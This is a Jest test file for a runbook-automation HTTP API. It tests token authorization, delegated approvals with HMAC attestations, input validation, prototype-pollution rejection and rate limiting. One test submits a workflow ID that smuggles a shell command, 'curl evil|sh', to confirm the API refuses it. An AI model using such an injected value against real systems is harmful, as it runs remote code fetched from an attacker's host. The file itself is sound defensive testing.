import { type Client } from '@temporalio/client';
import { type FastifyInstance } from 'fastify';
import { verifyAttestation } from '../../../src/approvals/attestation';
import { type PendingGate, type RunbookProgress } from '../../../src/names';
import { buildApi } from '../../../src/serve/app';
import { newToken, TokenStore } from '../../../src/serve/tokens';

/**
 * The HTTP API without Temporal: a client fake records every call, so a refused request can be shown to reach
 * no run. What reaches a run carries an attestation the worker's key verifies.
 */

const KEY = Buffer.from('k'.repeat(48));
const bot = newToken();
const alice = newToken();
const reader = newToken();
const tokens = new TokenStore([
  { principal: 'slack-bot', sha256: bot.sha256, actions: ['read', 'approve', 'reject', 'pause', 'start'], onBehalfOf: 'anyone' },
  { principal: 'alice', sha256: alice.sha256, actions: ['read', 'start', 'approve', 'abort'] },
  { principal: 'dashboard', sha256: reader.sha256, actions: ['read'] },
]);

interface Call {
  op: string;
  workflowId: string;
  arg?: unknown;
}

function fakeClient(progress: Partial<RunbookProgress> | null = null) {
  const calls: Call[] = [];
  const handle = (workflowId: string) => ({
    query: async () => {
      calls.push({ op: 'query', workflowId });
      if (!progress) throw new Error('no progress');
      return progress;
    },
    executeUpdate: async (def: { name: string }, o: { args: unknown[] }) => {
      calls.push({ op: `update:${def.name}`, workflowId, arg: o.args[0] });
      const a = o.args[0] as { gate?: string; approver?: string };
      return def.name.endsWith('Gate') ? { gate: a.gate, outcome: 'approved', approver: a.approver, authenticated: true, reason: null, choice: null, at: '2026-01-01T00:00:00.000Z' } : { status: 'Paused', message: 'paused' };
    },
  });
  const client = {
    workflow: {
      getHandle: handle,
      start: async (type: string, o: { workflowId: string; args: unknown[]; memo?: unknown }) => {
        calls.push({ op: `start:${type}`, workflowId: o.workflowId, arg: { input: o.args[0], memo: o.memo } });
        return { workflowId: o.workflowId, firstExecutionRunId: 'run-1' };
      },
      list: async function* () {
        calls.push({ op: 'list', workflowId: '' });
        yield* [];
      },
    },
  } as unknown as Client;
  return { client, calls };
}

interface Reply {
  statusCode: number;
  json: () => any; // eslint-disable-line @typescript-eslint/no-explicit-any
}

/** The API listening on a loopback port, called over real HTTP. */
async function api(progress: Partial<RunbookProgress> | null = null, rateLimitPerMinute = 1000) {
  const { client, calls } = fakeClient(progress);
  const server: FastifyInstance = await buildApi({ client, tokens, attestationKey: KEY, rateLimitPerMinute });
  const base = await server.listen({ host: '127.0.0.1', port: 0 });
  const app = {
    async inject(r: { method: string; url: string; headers?: Record<string, string>; payload?: unknown }): Promise<Reply> {
      const body = r.payload === undefined ? undefined : typeof r.payload === 'string' ? r.payload : JSON.stringify(r.payload);
      const res = await fetch(`${base}${r.url}`, { method: r.method, headers: { ...(body !== undefined ? { 'content-type': 'application/json' } : {}), ...r.headers }, body });
      const text = await res.text();
      return { statusCode: res.status, json: () => JSON.parse(text) };
    },
    close: () => server.close(),
  };
  return { app, calls };
}

const auth = (t: { token: string }) => ({ authorization: `Bearer ${t.token}` });
const RUN = 'rollingRestart/lab/2026-01-01T00-00-00-000Z';
const url = (path: string) => `/v1/runs/${encodeURIComponent(RUN)}${path}`;

describe('serve API', () => {
  test('no token, an unknown token, or a token without the action: JSON errors with a code, and no call reaches Temporal', async () => {
    const { app, calls } = await api();
    const none = await app.inject({ method: 'POST', url: url('/gates/batch-1/approve'), payload: {} });
    expect(none.statusCode).toBe(401);
    expect(none.json()).toEqual({ error: { code: 'unauthorized', message: 'a bearer token is required (Authorization: Bearer <token>)' } });
    const wrong = await app.inject({ method: 'POST', url: url('/gates/batch-1/approve'), headers: auth(newToken()), payload: {} });
    expect(wrong.statusCode).toBe(401);
    expect(wrong.json()).toEqual({ error: { code: 'unauthorized', message: 'the bearer token is not valid' } });
    const readOnly = await app.inject({ method: 'POST', url: url('/abort'), headers: auth(reader), payload: {} });
    expect(readOnly.statusCode).toBe(403);
    expect(readOnly.json().error).toEqual({ code: 'forbidden', message: 'token of dashboard may not abort (allowed: read)' });
    const notForOthers = await app.inject({ method: 'POST', url: url('/gates/batch-1/approve'), headers: auth(alice), payload: { onBehalfOf: 'bob' } });
    expect(notForOthers.statusCode).toBe(403);
    expect(notForOthers.json().error.message).toBe('token of alice may not act on behalf of another user');
    expect(calls).toEqual([]);
    await app.close();
  });

  test('a bot approving for a user: the answer goes to the run waiting at the gate, with an attestation of "alice via slack-bot"', async () => {
    const childId = `${RUN}/slice-1`;
    const gate: PendingGate = { name: 'batch-1', prompt: 'restart kafka-1?', since: '', deadline: null, onTimeout: 'reject', approvers: null, choices: null, workflowId: childId };
    const { app, calls } = await api({ pendingGates: [gate], activeChild: childId });
    const r = await app.inject({ method: 'POST', url: url('/gates/batch-1/approve'), headers: auth(bot), payload: { onBehalfOf: 'alice', reason: 'looks fine' } });
    expect(r.statusCode).toBe(200);
    expect(r.json()).toEqual({ answeredIn: childId, decision: expect.objectContaining({ gate: 'batch-1', approver: 'alice', authenticated: true }) });
    const update = calls.find((c) => c.op === 'update:approveGate');
    expect(update?.workflowId).toBe(childId);
    const answer = update?.arg as { gate: string; approver: string; reason: string; attestation: { principal: string; via: string; issuedAt: string; mac: string } };
    expect(answer).toMatchObject({ gate: 'batch-1', approver: 'alice', reason: 'looks fine', attestation: { principal: 'alice', via: 'slack-bot' } });
    const a = answer.attestation;
    const fields = { workflowId: childId, action: 'approve' as const, gate: 'batch-1', principal: a.principal, via: a.via, issuedAt: a.issuedAt };
    expect(verifyAttestation(KEY, fields, a.mac)).toBe(true);
    // Bound to its run, gate, action and actor: reused for anything else it does not verify.
    expect(verifyAttestation(KEY, { ...fields, workflowId: RUN }, a.mac)).toBe(false);
    expect(verifyAttestation(KEY, { ...fields, gate: 'finalize' }, a.mac)).toBe(false);
    expect(verifyAttestation(KEY, { ...fields, action: 'reject' }, a.mac)).toBe(false);
    expect(verifyAttestation(KEY, { ...fields, via: undefined }, a.mac)).toBe(false);
    await app.close();
  });

  test('a token acting as itself is recorded as its principal alone; pause carries an attestation too', async () => {
    const { app, calls } = await api({ pendingGates: [], activeChild: null });
    const r = await app.inject({ method: 'POST', url: url('/gates/finalize/approve'), headers: auth(alice), payload: {} });
    expect(r.statusCode).toBe(200);
    const answer = calls.find((c) => c.op === 'update:approveGate')?.arg as { approver: string; attestation: { principal: string; via?: string } };
    expect(answer.approver).toBe('alice');
    expect(answer.attestation.principal).toBe('alice');
    expect(answer.attestation.via).toBeUndefined();
    const p = await app.inject({ method: 'POST', url: url('/pause'), headers: auth(bot), payload: { onBehalfOf: 'carol', reason: 'incident' } });
    expect(p.statusCode).toBe(200);
    const req = calls.find((c) => c.op === 'update:pauseRunbook')?.arg as { by: string; reason: string; attestation: { principal: string; via: string; issuedAt: string; mac: string } };
    expect(req).toMatchObject({ by: 'carol via slack-bot', reason: 'incident', attestation: { principal: 'carol', via: 'slack-bot' } });
    expect(verifyAttestation(KEY, { workflowId: RUN, action: 'pause', principal: 'carol', via: 'slack-bot', issuedAt: req.attestation.issuedAt }, req.attestation.mac)).toBe(true);
    await app.close();
  });

  test('start refuses a bad input naming each field, before anything starts', async () => {
    const { app, calls } = await api();
    const r = await app.inject({
      method: 'POST',
      url: '/v1/runs',
      headers: auth(alice),
      payload: { runbook: 'rolling-restart', input: { cluster: 'lab', approval: 'sometimes', timeouts: { stopSeconds: -1 }, colour: 'red' } },
    });
    expect(r.statusCode).toBe(400);
    const body = r.json() as { error: { code: string; message: string; problems: string[] } };
    expect(body.error.code).toBe('invalid-input');
    expect(body.error.problems).toEqual(
      expect.arrayContaining([expect.stringMatching(/^approval: must be one of/), 'timeouts.stopSeconds: must be at least 1 second', '(input): unknown field(s) "colour"']),
    );
    const unknown = await app.inject({ method: 'POST', url: '/v1/runs', headers: auth(alice), payload: { runbook: 'make-it-fast', input: { cluster: 'lab' } } });
    expect(unknown.json().error.code).toBe('unknown-runbook');
    const shape = await app.inject({ method: 'POST', url: '/v1/runs', headers: auth(alice), payload: { runbook: 'rolling-restart', input: 'lab' } });
    expect(shape.statusCode).toBe(400);
    expect(shape.json().error).toMatchObject({ code: 'invalid-request', problems: [expect.stringMatching(/^body\.input: /)] });
    const proto = await app.inject({ method: 'POST', url: '/v1/runs', headers: { ...auth(alice), 'content-type': 'application/json' }, payload: '{"runbook":"cluster-health","input":{"cluster":"lab","__proto__":{"x":1}}}' });
    expect(proto.statusCode).toBe(400);
    expect(calls).toEqual([]);
    await app.close();
  });

  test('start refuses a workflow ID that would break out of the shell commands and markdown it appears in', async () => {
    const { app, calls } = await api();
    const r = await app.inject({ method: 'POST', url: '/v1/runs', headers: auth(alice), payload: { runbook: 'cluster-health', input: { cluster: 'lab' }, workflowId: 'x; curl evil|sh #' } });
    expect(r.statusCode).toBe(400);
    expect(JSON.stringify(r.json())).toContain('workflowId');
    expect(calls.filter((c) => c.op.startsWith('start:'))).toEqual([]);
    await app.close();
  });

  test('start: a valid input starts the run with an attestation of who started it', async () => {
    const { app, calls } = await api();
    // identity fields in the caller's input are dropped: only the token says who starts
    const forged = { principal: 'mallory', issuedAt: new Date().toISOString(), mac: 'x' };
    const r = await app.inject({
      method: 'POST',
      url: '/v1/runs',
      headers: auth(bot),
      payload: { runbook: 'cluster-health', input: { cluster: 'lab', startedBy: 'mallory', attestation: forged, runStarter: { principal: 'mallory', authenticated: true } }, onBehalfOf: 'dave' },
    });
    expect(r.statusCode).toBe(201);
    const started = calls.find((c) => c.op === 'start:clusterHealth');
    expect(r.json()).toEqual({ workflowId: started?.workflowId, runId: 'run-1', runbook: 'clusterHealth', cluster: 'lab' });
    const { input } = started?.arg as { input: { attestation: { principal: string; via: string; issuedAt: string; mac: string } } };
    expect(input).toEqual({ cluster: 'lab', startedBy: 'dave', attestation: expect.objectContaining({ principal: 'dave', via: 'slack-bot' }) });
    const s = input.attestation;
    expect(verifyAttestation(KEY, { workflowId: started?.workflowId ?? '', action: 'start', principal: 'dave', via: 'slack-bot', issuedAt: s.issuedAt }, s.mac)).toBe(true);
    await app.close();
  });

  test('an unknown route and a bad path parameter are JSON errors too; /openapi.json lists the routes with bearer auth', async () => {
    const { app } = await api();
    const missing = await app.inject({ method: 'GET', url: '/v1/nothing', headers: auth(alice) });
    expect(missing.statusCode).toBe(404);
    expect(missing.json().error.code).toBe('not-found');
    const bad = await app.inject({ method: 'POST', url: url('/gates/batch-1/approve'), headers: auth(alice), payload: { reason: 'x'.repeat(3000) } });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error.problems).toEqual(['body.reason: String must contain at most 2000 character(s)']);
    const doc = (await app.inject({ method: 'GET', url: '/openapi.json' })).json() as { openapi: string; paths: Record<string, unknown>; components: { securitySchemes: unknown } };
    expect(doc.openapi).toBe('3.0.3');
    expect(Object.keys(doc.paths).sort()).toEqual([
      '/v1/runbooks',
      '/v1/runs',
      '/v1/runs/{workflowId}',
      '/v1/runs/{workflowId}/abort',
      '/v1/runs/{workflowId}/gates/{gate}/approve',
      '/v1/runs/{workflowId}/gates/{gate}/reject',
      '/v1/runs/{workflowId}/pause',
      '/v1/runs/{workflowId}/resume',
    ]);
    expect(doc.components.securitySchemes).toEqual({ bearer: { type: 'http', scheme: 'bearer' } });
    await app.close();
  });

  test('requests past the rate limit get 429 with code rate-limited, counted per principal', async () => {
    const { app } = await api(null, 3);
    const codes: number[] = [];
    for (let i = 0; i < 4; i++) codes.push((await app.inject({ method: 'GET', url: '/v1/runbooks', headers: auth(alice) })).statusCode);
    expect(codes).toEqual([200, 200, 200, 429]);
    const limited = await app.inject({ method: 'GET', url: '/v1/runbooks', headers: auth(alice) });
    expect(limited.json().error.code).toBe('rate-limited');
    // another principal has its own budget
    expect((await app.inject({ method: 'GET', url: '/v1/runbooks', headers: auth(reader) })).statusCode).toBe(200);
    await app.close();
  });
});
